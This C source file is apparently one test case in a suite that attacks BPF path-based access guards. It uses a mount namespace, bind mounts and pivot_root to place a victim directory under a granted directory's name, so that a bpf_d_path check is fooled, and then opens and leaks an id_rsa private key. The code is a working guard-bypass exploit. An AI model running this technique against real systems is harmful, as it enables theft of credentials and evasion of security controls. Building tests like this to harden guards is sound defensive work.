/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Builds a root in which the victim's directory has the granted directory's own name, then reads by that name: a guard
 * that asks for the path as the process sees it (bpf_d_path) gets the granted path.
 */
#define ATTACK "pivot-root"
#include "attack.h"
#include <sys/mount.h>

int main(int count, char **argument)
{
	char *root = text("%s/root", argument[2]), *place = root, *rest = strdup(argument[2]), *part;

	(void)count;
	become_namespace_root(CLONE_NEWNS);
	prepare("mkdir", mkdir(root, 0700));
	prepare("mount", mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL));
	prepare("mount", mount(root, root, NULL, MS_BIND, NULL));
	while ((part = strsep(&rest, "/"))) {
		if (!*part)
			continue;
		place = text("%s/%s", place, part);
		prepare("mkdir", mkdir(place, 0700));
	}
	prepare("mount", mount(argument[1], place, NULL, MS_BIND, NULL));
	prepare("chdir", chdir(root));
	prepare("pivot_root", syscall(SYS_pivot_root, ".", "."));
	prepare("umount", umount2(".", MNT_DETACH));
	prepare("chdir", chdir("/"));
	open_and_leak(text("%s/id_rsa", argument[2]));
}
